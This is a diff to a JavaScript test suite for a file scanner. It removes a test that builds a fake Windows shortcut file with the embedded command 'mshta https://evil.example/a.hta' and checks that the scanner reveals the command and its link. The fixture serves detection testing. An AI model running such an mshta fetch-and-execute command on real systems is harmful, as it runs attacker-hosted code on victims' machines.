@@ -132,12 +132,4 @@ describe('text', () => {
     const { gaps } = await look(`${'a '.repeat(600_000)} https://evil.example`, 'long.txt');
     expect(gaps).toMatchObject([{ why: 'too-large', blinding: true }]);
   });
-
-  test('a shortcut shows the command that it runs', async () => {
-    const head = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
-    const command = Buffer.from('mshta https://evil.example/a.hta', 'utf16le');
-    const { content, links } = await look(Buffer.concat([head, Buffer.alloc(60), command]), 'a.lnk');
-    expect(content).toContain('mshta');
-    expect(links.map((link) => link.url)).toEqual(['https://evil.example/a.hta']);
-  });
 });
